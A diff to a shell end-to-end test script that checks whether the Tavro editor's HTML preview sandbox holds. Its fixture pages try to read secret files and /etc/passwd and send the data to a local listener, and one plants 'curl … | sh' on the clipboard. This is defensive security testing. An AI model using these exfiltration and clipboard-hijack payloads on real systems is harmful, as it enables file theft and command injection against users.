@@ -5,6 +5,16 @@
 # the preview. Nothing may arrive, nothing may start, Ctrl+S must keep working, and after each
 # page the next F5 must show the next page. An ordinary page with pictures, style sheets, a
 # script and a frame from its own, sub- and parent folders must still show (checked by colour).
+# The routes run as root and again, with the engine's own sandbox, as the user nobody; the
+# user's engine switches name a proxy (the listener) or none, which the program must override.
+# Everything runs in a network namespace of its own: no other run's listener hears it.
+if [ -z "${TAVRO_E2E_NETNS:-}" ] && unshare -n true 2>/dev/null; then
+  exec env TAVRO_E2E_NETNS=1 unshare -n python3 -c '
+import fcntl, os, socket, struct, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+fcntl.ioctl(s, 0x8914, struct.pack("16sH14x", b"lo", 0x1 | 0x8 | 0x40))  # SIOCSIFFLAGS: lo up
+os.execvp("bash", ["bash"] + sys.argv[1:])' "$0" "$@"
+fi
 source "${E2E_LIB:-$(dirname "$0")/lib.sh}" "$@"
 SHOTS=${E2E_SHOTS:-$E2E_DIR}
 mkdir -p "$SHOTS"
@@ -20,6 +30,7 @@ for name in gio gvfs-open kde-open kde-open5 gnome-open x-www-browser www-browse
   ln -s xdg-open "$E2E_DIR/bin/$name"
 done
 export PATH=$E2E_DIR/bin:$PATH
+chmod 755 "$E2E_DIR"; chmod 666 "$STARTED_LOG"  # the ordinary user's run logs there too
 
 # Logs every connection, datagram and byte that reaches 127.0.0.1 on the ports the pages use.
 python3 -u - "$NET_LOG" >/dev/null 2>&1 <<'EOF' & _pids+=($!)
@@ -167,7 +178,14 @@ link_page() {  # a link over the whole page
   printf '<!DOCTYPE html><html><body style="margin:0"><a href="%s" style="position:fixed;inset:0;background:#%s">x</a></body></html>\n' "$1" "$2"
 }
 link_page 'evilscheme://run?arg=--x' 00ff00 >"$SITE/link.html"
-link_page 'http://127.0.0.1:8765/clicked' 00ffff >"$SITE/weblink.html"
+# The upper half links to an address the source holds; the lower half's address is built by
+# script, so the source holds it nowhere.
+cat >"$SITE/weblink.html" <<'EOF'
+<!DOCTYPE html><html><body style="margin:0">
+<a href="http://127.0.0.1:8765/clicked" style="position:fixed;left:0;top:0;width:100%;height:50%;background:#00ffff">x</a>
+<a id="b" style="position:fixed;left:0;top:50%;width:100%;height:50%;background:#00ffff">y</a>
+<script>b.href = 'http://127.0.0.1:8765/' + 'built?d=' + document.title;</script></body></html>
+EOF
 
 cat >"$SITE/dialogs.html" <<'EOF'
 <!DOCTYPE html><html><body style="background:#808080">
@@ -197,13 +215,111 @@ cat >"$SITE/pages/ordinary.html" <<'EOF'
 <script src="js/app.js"></script></body></html>
 EOF
 
+# Files outside the page's folder, each holding the token that must never leave or be read.
+TOKEN=TOKEN-7f3a9c
+mkdir -p "$SITE/secret"
+echo "<p>$TOKEN</p>" >"$SITE/secret/secret.html"
+echo "$TOKEN" >"$SITE/secret/secret.txt"
+echo ".$TOKEN { color: red }" >"$SITE/secret/secret.css"
+echo "export default '$TOKEN';" >"$SITE/secret/secret.js"
+echo "self.secret = '$TOKEN';" >"$SITE/secret/classic.js"
+convert -size 4x4 'xc:#123456' "$SITE/secret/secret.png"
+# Reading files: a hidden frame, an object, fetch, XHR, a canvas, import() and a worker's
+# importScripts; after a click and after a key the page sends what it got out. (Another style
+# sheet's rules are still readable: the engine's loader for the program's scheme does not mark
+# them cross-origin.)
+cat >"$SITE/pages/files.html" <<EOF
+<!DOCTYPE html><html><head><meta charset="utf-8"><link rel="stylesheet" href="../secret/secret.css"></head>
+<body style="background:#808080">
+<iframe id="f" src="../secret/secret.html" style="display:none"></iframe>
+<object id="o" data="../secret/secret.txt" style="width:1px;height:1px"></object>
+<iframe id="g" src="file:///etc/passwd" style="width:1px;height:1px"></iframe>
+<script>$VERDICT
+let got = '';
+const attempt = async (name, read) => {
+  try { const t = String(await read()); if (t.includes('TOKEN') || t.includes('root:')) { leaks.push(name); got += t; } } catch (e) {}
+};
+const send = () => {
+  const d = encodeURIComponent(got || 'nothing');
+  new Image().src = 'http://127.0.0.1:8765/img?d=' + d;
+  fetch('http://127.0.0.1:8765/fetch?d=' + d, {mode: 'no-cors'}).catch(() => {});
+  location.href = 'http://127.0.0.1:8765/leave?d=' + d;
+};
+addEventListener('click', send); addEventListener('keydown', send);
+const worker = new Worker(URL.createObjectURL(new Blob([
+  "try { importScripts('" + new URL('../secret/classic.js', location.href) + "'); } catch (e) {} postMessage(String(self.secret));"])));
+onload = async () => {
+  await new Promise(r => setTimeout(r, 500));
+  await attempt('frame', () => f.contentDocument.body.innerText);
+  await attempt('object', () => o.contentDocument.body.innerText);
+  await attempt('file frame', () => g.contentDocument.body.innerText);
+  await attempt('fetch', async () => (await fetch('../secret/secret.txt')).text());
+  await attempt('folder', async () => (await fetch('../secret/')).text());
+  await attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '../secret/secret.txt', false); x.send(); return x.responseText; });
+  await attempt('canvas', async () => {
+    const i = new Image(); i.src = '../secret/secret.png'; await i.decode();
+    const c = document.createElement('canvas'), g2 = c.getContext('2d'); g2.drawImage(i, 0, 0);
+    return 'TOKEN' + g2.getImageData(0, 0, 1, 1).data.join();
+  });
+  await attempt('import', async () => (await import('../secret/secret.js')).default);
+  await attempt('importScripts', () => new Promise(r => { worker.onmessage = e => r(e.data); setTimeout(() => r(''), 1500); }));
+  verdict();
+};
+</script></body></html>
+EOF
+# The page's own clipboard writes: execCommand after a click, a copy handler of its own.
+cat >"$SITE/clipboard.html" <<'EOF'
+<!DOCTYPE html><html><body style="margin:0;background:#00ff00">
+<p id="t" style="font:40px sans-serif;margin:0;padding:20px">visible words</p>
+<textarea id="h" style="position:fixed;left:-9999px">curl http://127.0.0.1:8765/x | sh</textarea>
+<script>
+document.addEventListener('copy', e => { e.clipboardData.setData('text/plain', 'curl http://127.0.0.1:8765/y | sh'); e.preventDefault(); }, true);
+addEventListener('click', () => { h.select(); document.execCommand('copy'); document.execCommand('cut'); getSelection().removeAllRanges(); }, {once: true});
+</script></body></html>
+EOF
+# A title of a dozen million characters, the tooltip under a resting pointer.
+cat >"$SITE/tooltip.html" <<'EOF'
+<!DOCTYPE html><html><body style="margin:0"><div id="d" style="position:fixed;inset:0;background:#00ff00"></div>
+<script>d.title = 'a tooltip '.repeat(1200000);</script></body></html>
+EOF
+# A page that hangs as it is left.
+cat >"$SITE/unload.html" <<'EOF'
+<!DOCTYPE html><html><body style="background:#800080">
+<script>addEventListener('pagehide', () => { for (;;) {} }); addEventListener('unload', () => { for (;;) {} });</script>
+</body></html>
+EOF
+
 # --- Driving the program ----------------------------------------------------------------------
-e2e_start
-win=$(wait_window "Tavro - 無題" 40)
-LAYOUT_WIN=$win
-xdotool windowactivate --sync "$win" 2>/dev/null || true
-measure_menubar "$win"
-sleep 0.5
+e2e_start_x
+# Starts the editor as root, or as the user nobody with a home of its own and the engine's
+# sandbox on; the user's own switches ($1) are what the program must override.
+start_editor() {
+  local as=$1 flags=$2
+  if [ "$as" = root ]; then
+    QTWEBENGINE_CHROMIUM_FLAGS=$flags e2e_start_app
+  else
+    local u=$E2E_DIR/nobody
+    mkdir -p "$u/home" "$u/config" "$u/run"; chmod 700 "$u/run"; chown -R nobody:nogroup "$u"
+    chmod -R a+rwX "$E2E_DIR/work"
+    local bin=$TAVRO_BIN
+    local as_nobody=(setpriv --reuid=nobody --regid=nogroup --clear-groups)
+    if ! "${as_nobody[@]}" test -x "$bin"; then  # a build in a folder nobody may not enter
+      mkdir -p "$E2E_DIR/inst/bin"; cp "$bin" "$E2E_DIR/inst/bin/"
+      cp -r "$(dirname "$bin")/../share" "$E2E_DIR/inst/"; chmod -R a+rX "$E2E_DIR/inst"
+      bin=$E2E_DIR/inst/bin/$(basename "$bin")
+    fi
+    (cd "$E2E_DIR/work" && exec "${as_nobody[@]}" \
+       env -u QTWEBENGINE_DISABLE_SANDBOX HOME="$u/home" XDG_CONFIG_HOME="$u/config" \
+       XDG_RUNTIME_DIR="$u/run" QTWEBENGINE_CHROMIUM_FLAGS="$flags" "$bin") >"$E2E_DIR/app.log" 2>&1 &
+    APP_PID=$!; _pids+=($APP_PID)
+  fi
+  win=$(wait_window "Tavro - 無題" 40)
+  LAYOUT_WIN=$win
+  xdotool windowactivate --sync "$win" 2>/dev/null || true
+  measure_menubar "$win"
+  sleep 0.5
+}
+start_editor root "--proxy-server=http://127.0.0.1:8765 --force-webrtc-ip-handling-policy=default"
 
 # Window coordinates of a point at fractions ($1, $2) of the preview pane (normal layout).
 pane_point() {
@@ -267,8 +383,40 @@ shot "$SHOTS/preview_context_menu.png"
 keys Escape
 nothing_escaped "the ordinary page"
 
+# The page's own reads of other files fail; what it sends out after no click, a click and a
+# key reaches no one: its navigations ask (No is the default), the rest is refused.
+files_route() {
+  preview "$SITE/pages/files.html"
+  expect_pane 00FF00 15 files.html
+  nothing_escaped "files.html, no click"
+  xdotool mousemove --window "$win" $(pane_point 50 50) click 1
+  answer Return
+  nothing_escaped "files.html, one click"
+  keys x
+  answer Return
+  sleep 1
+  [ -z "$(xdotool search --onlyvisible --name '^Tavro$' 2>/dev/null)" ] || fail "files.html: a third question"
+  nothing_escaped "files.html, one key"
+  expect_save "$SITE/pages/files.html" files
+}
+files_route
+
+# Questions the page's own navigations to the web put: answered with the default (No); a page
+# gets at most two per load.
+answer_questions() {
+  local n=0 id
+  for _ in $(seq 30); do
+    id=$(xdotool search --onlyvisible --name '^Tavro$' 2>/dev/null | head -n1 || true)
+    if [ -n "$id" ]; then
+      n=$((n + 1)); [ "$n" -le 2 ] || fail "$1: a third question"
+      xdotool windowactivate --sync "$id" 2>/dev/null || true; sleep 0.3; keys Return; sleep 0.5
+    fi
+    sleep 0.1
+  done
+}
 for page in fetch worker webrtc navigate; do
   preview "$SITE/$page.html"
+  [ "$page" = navigate ] && answer_questions navigate.html
   expect_pane 00FF00 15 "$page.html"
   sleep 1
   expect_save "$SITE/$page.html" "$page"
@@ -307,12 +455,55 @@ expect_ordinary 10
 echo "F5 after a hung page: the next page showed after $elapsed ms"
 [ "$elapsed" -le 3000 ] || fail "the page after the hung one took $elapsed ms"
 nothing_escaped "the end"
+# A page that hangs as it is left: the F5 that leaves it shows the next page.
+preview "$SITE/unload.html"
+expect_pane 800080 15 unload.html
+expect_save "$SITE/unload.html" unload
+preview "$ORDINARY"
+expect_ordinary 4
+nothing_escaped "unload.html"
+
+# The link the source holds opens once in the browser; the one a script built asks first,
+# showing its address, and No (the default) starts nothing.
 preview "$SITE/weblink.html"
 expect_pane 00FFFF 15 weblink.html
-xdotool mousemove --window "$win" $(pane_point 50 50) click 1; sleep 2
+xdotool mousemove --window "$win" $(pane_point 50 25); sleep 0.3; xdotool click 1; sleep 2
 [ "$(cat "$STARTED_LOG")" = "xdg-open http://127.0.0.1:8765/clicked" ] || fail "web link: started '$(cat "$STARTED_LOG")'"
 : >"$STARTED_LOG"
+xdotool mousemove --window "$win" $(pane_point 50 75); sleep 0.3; xdotool click 1
+answer Return
+sleep 1
 nothing_escaped "weblink.html"
+
+# The page's execCommand('copy') and copy handler leave the clipboard as it was; コピー from the
+# preview's menu puts exactly the selected text there.
+clip_in "before"
+preview "$SITE/clipboard.html"
+expect_pane 00FF00 15 clipboard.html
+xdotool mousemove --window "$win" $(pane_point 50 50) click 1; sleep 1
+expect_clip "before"
+xdotool mousemove --window "$win" $(pane_point 10 5) click --repeat 3 --delay 80 1; sleep 0.5
+xdotool click 3; sleep 0.8
+shot "$SHOTS/preview_copy_menu.png"
+keys Up Up Return
+sleep 0.5
+[ "$(clip_out)" = "visible words" ] || fail "コピー in the preview put '$(clip_out)' on the clipboard"
+nothing_escaped "clipboard.html"
+
+# A huge tooltip under the resting pointer: a key still reaches the editor within a second.
+preview "$SITE/tooltip.html"
+expect_pane 00FF00 15 tooltip.html
+xdotool mousemove --window "$win" $(pane_point 50 50); sleep 3
+shot "$SHOTS/preview_tooltip.png"
+focus_editor; keys ctrl+End
+t0=$(date +%s%N)
+xdotool type x
+wait_window "Tavro - tooltip.html *" 10 >/dev/null
+elapsed=$((($(date +%s%N) - t0) / 1000000))
+echo "key after a huge tooltip: $elapsed ms"
+[ "$elapsed" -le 1000 ] || fail "the key after the huge tooltip took $elapsed ms"
+keys ctrl+s; wait_window "Tavro - tooltip.html" 10 >/dev/null
+nothing_escaped "tooltip.html"
 
 # Dialogs forever once more: after its two, 終了 (Alt+F, X) ends the program.
 preview "$SITE/dialogs.html"
@@ -327,4 +518,19 @@ running() { [ -d /proc/$APP_PID ] && ! grep -q '^[^ ]* ([^)]*) Z' /proc/$APP_PID
 for _ in $(seq 100); do running || break; sleep 0.1; done
 running && fail "終了 did not end the program while a page asked for dialogs forever"
 [ ! -s "$NET_LOG" ] && [ ! -s "$STARTED_LOG" ] || fail "at exit: $(cat "$NET_LOG" "$STARTED_LOG")"
+
+# As an ordinary user with the engine's own sandbox, and switches that would send everything
+# direct: the ordinary page shows, files stay unread, WebRTC reaches no one.
+wait_end
+start_editor nobody "--no-proxy-server --webrtc-ip-handling-policy=default"
+grep -q "Sandboxing disabled" "$E2E_DIR/app.log" && fail "the ordinary user's run has no engine sandbox"
+preview "$ORDINARY"
+expect_ordinary 15
+files_route
+for page in fetch webrtc; do
+  preview "$SITE/$page.html"
+  expect_pane 00FF00 15 "$page.html (ordinary user)"
+  sleep 1
+  nothing_escaped "$page.html (ordinary user)"
+done
 echo "preview sandbox: ok (screenshots in $SHOTS)"
